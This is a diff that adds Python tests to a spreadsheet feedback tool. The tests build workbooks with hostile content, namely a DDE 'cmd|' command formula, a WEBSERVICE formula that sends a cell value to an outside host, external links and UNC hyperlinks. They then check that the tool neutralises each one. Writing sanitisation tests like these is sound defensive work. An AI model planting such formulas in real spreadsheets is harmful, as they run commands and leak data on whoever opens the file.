@@ -5,6 +5,7 @@ from __future__ import annotations
 import openpyxl
 import pandas as pd
 import xlwt
+from openpyxl.styles import PatternFill
 
 from talentstats.feedback import (
     FEEDBACK_SHEET,
@@ -344,3 +345,113 @@ def test_superseded_findings_are_not_counted():
                                                  source_file="a0.xlsx", sha256="0",
                                                  status="accepted")])])
     assert superseded_findings(found, partly).tolist() == [True, False, False, False]
+
+
+# ---------------------------------------------------------------------------------------------
+# Nothing outward, and no forbidden character, in a feedback workbook (issue 15, items 1 and 8)
+
+DDE = "=cmd|' /C calc'!A0"
+FETCH = '=WEBSERVICE("http://x/?"&C8)'
+UNC = "file://\\\\host\\share\\x.lnk"
+
+
+def _hostile_xlsx(path, sheet):
+    """A unit's workbook whose formulas, links, conditional formats and validations reach
+    outside, beside harmless ones of each kind."""
+    from openpyxl.formatting.rule import CellIsRule, FormulaRule
+    from openpyxl.worksheet.datavalidation import DataValidation
+    from openpyxl.worksheet.formula import ArrayFormula
+    from openpyxl.worksheet.hyperlink import Hyperlink
+
+    wb = openpyxl.Workbook()
+    ws = wb.active
+    ws.title = sheet
+    ws["C7"], ws["C8"] = 100, 52310
+    ws["D1"] = ArrayFormula("D1", DDE)
+    ws["D2"] = ArrayFormula("D2", FETCH)
+    ws["D3"] = "=[1]Sheet1!A1"
+    ws["D4"] = "=SUM(C7:C8)"  # the unit's own sum: kept
+    ws["D5"] = ArrayFormula("D5", "=SUM(C7:C8*2)")  # kept
+    ws["E1"].hyperlink = UNC
+    ws["E2"].hyperlink = "http://x/"
+    ws["E3"].hyperlink = Hyperlink(ref="E3", location=f"'{sheet}'!C7")  # within: kept
+    ws.conditional_formatting.add("C7:C8", FormulaRule(formula=['ISNUMBER(WEBSERVICE("http://x/"))'],
+                                                       fill=PatternFill("solid", fgColor="FF0000")))
+    ws.conditional_formatting.add("C7:C8", CellIsRule(operator="greaterThan", formula=["1000"],
+                                                      fill=PatternFill("solid", fgColor="00FF00")))
+    outward = DataValidation(type="list", formula1="[1]Sheet1!$A$1:$A$3")
+    dde = DataValidation(type="custom", formula1="cmd|' /C calc'!A0")
+    plain = DataValidation(type="list", formula1='"是,否"')
+    for dv, ref in ((outward, "C7"), (dde, "C8"), (plain, "C9")):
+        ws.add_data_validation(dv)
+        dv.add(ref)
+    wb.save(path)
+    return path
+
+
+def _package(path):
+    """Every part of a written package, as text."""
+    import zipfile
+
+    with zipfile.ZipFile(path) as z:
+        return {n: z.read(n).decode("utf-8", "replace") for n in z.namelist()}
+
+
+def test_nothing_outward_survives_from_any_submitted_file(tmp_path):
+    import re
+
+    # a unit's form and its roster sent separately: the second file is copied cell by cell
+    a = _hostile_xlsx(tmp_path / "东城表1.xlsx", "表1")
+    b = _hostile_xlsx(tmp_path / "东城名册.xlsx", "表4")
+    fa = pd.DataFrame([finding("N01", "error", "甲", "表1!C7")])
+    fb = pd.DataFrame([finding("P01", "warning", "乙", "表4!C8", form="TR4")])
+    out = write_feedback({a: fa, b: fb}, None, tmp_path / "f.xlsx", unit_name="东城街道",
+                         year=2015)
+    parts = _package(out)
+    assert not [n for n in parts if "externalLink" in n]
+    rels = "".join(v for n, v in parts.items() if n.endswith(".rels"))
+    assert "External" not in rels and "file:" not in rels and "http://x" not in rels
+    sheets = {n: v for n, v in parts.items() if n.startswith("xl/worksheets/sheet")}
+    formulas = [f for v in sheets.values() for f in re.findall(r"<f[^>]*>([^<]*)</f>", v)]
+    assert formulas and not [f for f in formulas if re.search(
+        r"cmd\||WEBSERVICE|\[1\]|HYPERLINK", f, re.IGNORECASE)], formulas
+    # the first file is the base of the copy: its own formulas stay; a later file's cells are
+    # copied as values, their formulas as text
+    assert sorted(formulas) == ["SUM(C7:C8)", "SUM(C7:C8*2)"]
+    cf = [f for v in sheets.values() for f in re.findall(r"<formula>([^<]*)</formula>", v)]
+    assert cf == ["1000"]
+    dv = [f for v in sheets.values() for f in re.findall(r"<formula1>([^<]*)</formula1>", v)]
+    assert dv == ['"&#26159;,&#21542;"']  # "是,否"
+
+    wb = openpyxl.load_workbook(out)
+    for title in ("表1", "表4"):
+        ws = wb[title]
+        assert (ws["D1"].value, ws["D1"].data_type) == (DDE, "s")  # shown as text
+        assert (ws["D2"].value, ws["D2"].data_type) == (FETCH, "s")
+        assert (ws["D3"].value, ws["D3"].data_type) == ("=[1]Sheet1!A1", "s")
+        assert ws["E1"].hyperlink is None and ws["E2"].hyperlink is None
+    assert wb["表1"]["E3"].hyperlink.location == "'表1'!C7"
+    assert (wb["表4"]["D5"].value, wb["表4"]["D5"].data_type) == ("=SUM(C7:C8*2)", "s")
+
+
+def test_a_forbidden_character_does_not_lose_the_workbook(tmp_path):
+    # a \x0b pasted from Word, in a message (which quotes a cell), in a cell of an .xls that
+    # is converted, and in the collection summary
+    book = xlwt.Workbook()
+    ws = book.add_sheet("名册")
+    ws.write(4, 1, "何\x0b娟雪")
+    src = tmp_path / "名册.xls"
+    book.save(str(src))
+    message = "表4 第5行 姓名“何\x0b娟雪”请核实\x1b[2J"
+    found = pd.DataFrame([finding("P01", "warning", message, "名册!B5", form="TR4")])
+    out = write_feedback(src, found, tmp_path / "f.xlsx", unit_name="东城街道", year=2015)
+    wb = openpyxl.load_workbook(out)
+    assert wb["名册"]["B5"].value == "何娟雪"
+    assert wb["名册"]["B5"].comment.text == "[P01 核实性] 表4 第5行 姓名“何娟雪”请核实[2J"
+    assert wb[FEEDBACK_SHEET]["F6"].value == "表4 第5行 姓名“何娟雪”请核实[2J"
+
+    orphan = finding("X03", "error", "无法\x0b确定", "", form="", source_file="a\x0c.xlsx")
+    summary = write_collection_summary(submissions(), pd.DataFrame([orphan | {"unit_code": ""}]),
+                                       tmp_path / "s.xlsx", year=2015)
+    sheet = openpyxl.load_workbook(summary)["未识别单位的文件"]
+    assert (sheet["A2"].value, sheet["D2"].value) == ("a.xlsx", "无法确定")
